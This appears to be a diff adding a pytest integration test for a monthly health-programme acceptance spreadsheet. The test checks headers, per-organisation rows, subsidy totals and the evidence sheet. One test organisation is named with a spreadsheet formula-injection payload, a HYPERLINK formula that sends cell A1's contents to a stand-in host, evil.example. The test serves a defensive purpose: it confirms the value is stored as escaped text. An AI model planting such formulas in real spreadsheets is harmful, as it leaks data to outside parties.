@@ -1,0 +1,62 @@
+"""The commission's sheet of a signed month, read back with openpyxl: headers, one row per
+organisation, the totals, the evidence, and a hostile organisation name kept as text."""
+
+import dataclasses
+import datetime as dt
+
+import openpyxl
+import pytest
+
+from expectations.programme.signoff import sign_month
+from expectations.programme.subsidies import load_subsidy_config
+from expectations.publish.acceptance_sheet import (
+    EVIDENCE_HEADER,
+    SUMMARY_HEADER,
+    write_acceptance_sheet,
+)
+from expectations.rules.results import write_results
+from expectations.scoring.config import load_scoring_config
+from tests.expectations.scoring.test_scoring import complete, completeness_only, org, registry
+
+pytestmark = pytest.mark.integration
+
+NOV = [dt.date(2026, 11, d) for d in range(1, 5)]
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+
+
+def test_sheet_reads_back_with_rows_totals_and_evidence(rt, tmp_path):
+    hostile = dataclasses.replace(org("H2", "secondary"), name=HOSTILE)
+    orgs = registry(org("H1"), hostile, org("C1", "county"))
+    results = []
+    for day in NOV:
+        results += completeness_only("H1", day, 1, 0)
+        results += completeness_only("H2", day, *((17, 3) if day == NOV[0] else (1, 0)))
+        if day != NOV[3]:  # C1 sends nothing on the last day: expected, not scored
+            results += completeness_only("C1", day, 1, 0, ds="health_record")
+        complete(rt.ch, day)
+    write_results(rt.ch, results)
+    signed = sign_month(
+        rt.ch, orgs, NOV[0], "王质控", load_scoring_config(), load_subsidy_config()
+    )
+    path = write_acceptance_sheet(signed, tmp_path / "sheets" / "2026-11.xlsx")
+
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames == ["验收结果", "证据"]
+    summary = [[c.value for c in row] for row in book["验收结果"].iter_rows()]
+    signed_at = f"{signed.signature['signed_at']:%Y-%m-%d %H:%M:%S}"
+    assert summary[0] == list(SUMMARY_HEADER)
+    assert summary[1:] == [
+        ["H1", "H1 医院", "三级医院", "浉河区 (411502)", 4, 4, 0, "合格", 50000, "王质控", signed_at],
+        ["H2", "'" + HOSTILE, "二级医院", "浉河区 (411502)", 4, 3, 0, "不合格", 0, "王质控", signed_at],
+        ["C1", "C1 医院", "县区公共卫生平台", "浉河区 (411502)", 3, 3, 0, "合格", 60000, "王质控", signed_at],
+        ["合计", "3 家机构，2 家合格", None, None, 11, 10, 0, 2, 110000, "王质控", signed_at],
+    ]
+    name_cell = book["验收结果"]["B3"]
+    assert name_cell.data_type == "s"  # text, never a formula
+
+    evidence = [[c.value for c in row] for row in book["证据"].iter_rows()]
+    assert evidence[0] == list(EVIDENCE_HEADER)
+    assert len(evidence) == 1 + 3 * 4  # every organisation-day expected
+    assert evidence[5] == ["H2", "'" + HOSTILE, "2026-11-01", "r1", 85, "否", 0]
+    assert evidence[-1] == ["C1", "C1 医院", "2026-11-04", "r1", None, "未评分", 0]
+    assert book["证据"]["B6"].data_type == "s"
